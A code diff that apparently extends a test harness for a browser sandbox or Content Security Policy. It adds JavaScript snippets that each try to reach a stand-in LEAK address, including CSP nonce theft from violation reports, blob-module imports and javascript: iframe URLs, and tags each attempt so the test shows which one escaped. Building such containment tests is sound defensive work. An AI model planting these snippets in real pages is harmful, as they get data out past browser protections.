@@ -22,9 +22,23 @@ WAYS_OUT: dict[str, str] = {
     "dns-prefetch": "put('link', { rel: 'dns-prefetch', href: LEAK })",
     "icon": "put('link', { rel: 'icon', href: LEAK })",
     "manifest": "put('link', { rel: 'manifest', href: LEAK })",
-    "speculation rules": "put('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: [LEAK] }] }) })",
+    "speculation rules": "put('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: [LEAK] }] }) })",  # noqa: E501
     "script": "put('script', { src: LEAK })",
     "import": "import(LEAK).catch(() => 0)",
+    "import of a blob": "import(URL.createObjectURL(new Blob([`import '${LEAK}'`], { type: 'text/javascript' }))).catch(() => 0)",  # noqa: E501
+    "nonce from a report": (
+        "addEventListener('securitypolicyviolation', (event) => {"
+        " const nonce = /nonce-([^']+)/.exec(event.originalPolicy)?.[1];"
+        " if (nonce) put('script', { nonce, src: LEAK }); }); new Image().src = 'http://127.0.0.1:9/'"
+    ),
+    "nonce from an observer": (
+        "new ReportingObserver((reports) => { for (const { body } of reports) {"
+        " const nonce = /nonce-([^']+)/.exec(body?.originalPolicy ?? '')?.[1];"
+        " if (nonce) put('script', { nonce, type: 'module', textContent: `import '${LEAK}'` }); } },"
+        " { buffered: true }).observe()"
+    ),
+    "integrity": "put('script', { src: LEAK, integrity: 'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=' })",
+    "javascript address": "put('iframe', { src: `javascript:fetch('${LEAK}')` })",
     "frame": "put('iframe', { src: LEAK })",
     "srcdoc": "put('iframe', { srcdoc: `<img src='${LEAK}'><script>fetch('${LEAK}')</script>` })",
     "blank frame": "put('iframe', {}).contentWindow?.fetch?.(LEAK)",
@@ -33,7 +47,7 @@ WAYS_OUT: dict[str, str] = {
     "video": "put('video', { src: LEAK, poster: LEAK })",
     "audio": "put('audio', { src: LEAK })",
     "track": "put('video', {}).append(Object.assign(document.createElement('track'), { src: LEAK, default: true }))",
-    "svg image": "document.body.insertAdjacentHTML('beforeend', `<svg><image href='${LEAK}'/><use href='${LEAK}#a'/></svg>`)",
+    "svg image": "document.body.insertAdjacentHTML('beforeend', `<svg><image href='${LEAK}'/><use href='${LEAK}#a'/></svg>`)",  # noqa: E501
     "worker": "new Worker(LEAK)",
     "blob worker": "new Worker(URL.createObjectURL(new Blob([`fetch('${LEAK}')`])))",
     "shared worker": "new SharedWorker(LEAK)",
@@ -63,7 +77,7 @@ NAVIGATIONS: dict[str, str] = {
     "link": "const a = put('a', { href: LEAK }); a.click()",
     "self link": "const a = put('a', { href: LEAK, target: '_self' }); a.click()",
     "meta refresh": "put('meta', { httpEquiv: 'refresh', content: '0;url=' + LEAK })",
-    "document.write": "document.open(); document.write(`<img src='${LEAK}'><meta http-equiv=refresh content='0;url=${LEAK}'>`); document.close()",
+    "document.write": "document.open(); document.write(`<img src='${LEAK}'><meta http-equiv=refresh content='0;url=${LEAK}'>`); document.close()",  # noqa: E501
     "navigation api": "globalThis.navigation?.navigate(LEAK)",
     "form get": "put('form', { action: LEAK, method: 'get' }).requestSubmit()",
 }
@@ -79,6 +93,8 @@ document.getElementById('root').textContent = 'hostile';
 
 
 def trying(ways: dict[str, str], leak: str) -> str:
-    """A module that tries all of these, one after the other; what throws is no way out."""
-    tries = "\n".join(f"try {{ {way} }} catch {{}}" for way in ways.values())
-    return f"const LEAK = {leak!r};{PUT}{tries}\n"
+    """A module that tries all of these, one after the other; what throws is no way out. The address tells which."""
+    tries = "\n".join(
+        f"try {{ const LEAK = {leak + name.replace(' ', '-')!r}; {way} }} catch {{}}" for name, way in ways.items()
+    )
+    return f"{PUT}{tries}\n"
